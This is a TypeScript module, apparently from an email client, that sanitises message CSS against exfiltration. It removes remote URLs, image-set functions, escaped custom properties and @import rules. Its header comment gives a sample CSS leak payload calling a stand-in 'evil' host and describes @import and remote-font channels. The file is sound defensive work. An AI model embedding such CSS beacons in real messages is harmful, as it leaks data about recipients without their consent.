/**
 * Scrubs CSS from a message (style attributes and <style> elements) so that nothing in it can
 * fetch anything the user has not allowed (CSS exfiltration: `background:url(https://evil/?leak)`,
 * `@import`, remote fonts). It uses the browser's own CSS parser — the one that will interpret the
 * text later — instead of pattern matching: a constructed CSSStyleSheet (which ignores @import
 * rules), and an element's style declaration for attributes. A declaration whose serialised value
 * loads a URL is kept only when each URL is a data: image; other rules that carry a URL are
 * dropped. Remote URLs in CSS stay out even after the user allows remote images (those are <img>
 * and background attributes): Chromium sends the app's origin as Referer with images that a
 * srcdoc frame's CSS loads, whatever the referrer policy says, and CSS is where exfiltration
 * tricks live. The iframe's own CSP (img-src, and default-src 'none' for fonts) blocks the same
 * loads a second time.
 */

export interface CssVerdict {
  /** the scrubbed text */
  text: string;
  /** a remote (http/https) URL was removed */
  remote: boolean;
}

const IMAGE_FUNCS = ["image-set(", "-webkit-image-set(", "image(", "cross-fade(", "element("];

/** Every URL in a serialised CSS value: what follows each `url(` up to its end, quotes removed. */
export function cssUrls(value: string): string[] {
  const out: string[] = [];
  const lower = value.toLowerCase();
  let i = lower.indexOf("url(");
  while (i >= 0) {
    let j = i + 4;
    while (j < value.length && (value[j] === " " || value[j] === "\t")) j++;
    const q = value[j];
    let end: number;
    if (q === '"' || q === "'") {
      j++;
      end = j;
      while (end < value.length && value[end] !== q) end += value[end] === "\\" ? 2 : 1;
    } else {
      end = j;
      while (end < value.length && value[end] !== ")" && value[end] !== " ") end++;
    }
    out.push(value.slice(j, Math.min(end, value.length)).trim());
    i = lower.indexOf("url(", end);
  }
  return out;
}

/** What becomes of a declaration value: "ok" (kept), "remote" (an http(s) URL), "drop" (another URL). */
function judge(value: string): "ok" | "remote" | "drop" {
  const lower = value.toLowerCase();
  // image-set() and friends take bare strings as URLs; they are rare in mail, so they go
  for (const f of IMAGE_FUNCS) if (lower.includes(f)) return "drop";
  let verdict: "ok" | "remote" | "drop" = "ok";
  for (const u of cssUrls(value)) {
    const l = u.toLowerCase();
    if (l.startsWith("data:image/")) continue;
    if (l.startsWith("https:") || l.startsWith("http:")) {
      verdict = "remote";
      continue;
    }
    return "drop";
  }
  return verdict;
}

/** Scrubs one declaration block in place; answers whether a remote URL was removed. */
function scrubDeclarations(style: CSSStyleDeclaration): boolean {
  let remote = false;
  const names: string[] = [];
  for (let i = 0; i < style.length; i++) names.push(style.item(i));
  for (const name of names) {
    const value = style.getPropertyValue(name);
    // a custom property keeps its text as written (escapes included) and is re-read where
    // var() uses it: one with an escape or a URL in it is not needed by any sane message
    if (name.startsWith("--") && (value.includes("\\") || value.toLowerCase().includes("url"))) {
      style.removeProperty(name);
      continue;
    }
    const v = judge(value);
    if (v === "ok") continue;
    if (v === "remote") remote = true;
    style.removeProperty(name);
  }
  return remote;
}

/** A style attribute's value, scrubbed. */
export function scrubStyleAttribute(value: string): CssVerdict {
  const el = document.createElement("div");
  el.setAttribute("style", value);
  const remote = scrubDeclarations(el.style);
  return { text: el.getAttribute("style") ?? "", remote };
}

interface RuleLike {
  cssText: string;
  style?: CSSStyleDeclaration;
  cssRules?: CSSRuleList;
  deleteRule?: (i: number) => void;
}

/** Scrubs a rule list in place (nested rules: @media, @supports, nesting); answers remote. */
function scrubRules(list: CSSRuleList, owner: { deleteRule(i: number): void }): boolean {
  let remote = false;
  for (let i = list.length - 1; i >= 0; i--) {
    const rule = list[i] as unknown as RuleLike;
    if (rule.style) remote = scrubDeclarations(rule.style) || remote;
    if (rule.cssRules && rule.deleteRule) {
      remote = scrubRules(rule.cssRules, rule as { deleteRule(i: number): void }) || remote;
    }
    if (!rule.style && !rule.cssRules) {
      // a rule of another kind (@font-face is a style rule; @property, @counter-style …):
      // kept only when its text names no URL at all
      const l = rule.cssText.toLowerCase();
      if (l.includes("url") || IMAGE_FUNCS.some((f) => l.includes(f)) || l.includes("\\"))
        owner.deleteRule(i);
    }
  }
  return remote;
}

/** A <style> element's text, scrubbed (empty where the browser has no constructable style sheets). */
export function scrubStyleSheet(text: string): CssVerdict {
  if (typeof CSSStyleSheet !== "function" || !("replaceSync" in CSSStyleSheet.prototype)) {
    return { text: "", remote: false };
  }
  const sheet = new CSSStyleSheet();
  try {
    sheet.replaceSync(text); // @import rules are ignored by constructed sheets
  } catch {
    return { text: "", remote: false };
  }
  const remote = scrubRules(sheet.cssRules, sheet);
  const parts: string[] = [];
  for (const r of sheet.cssRules) parts.push(r.cssText);
  return { text: parts.join("\n"), remote };
}
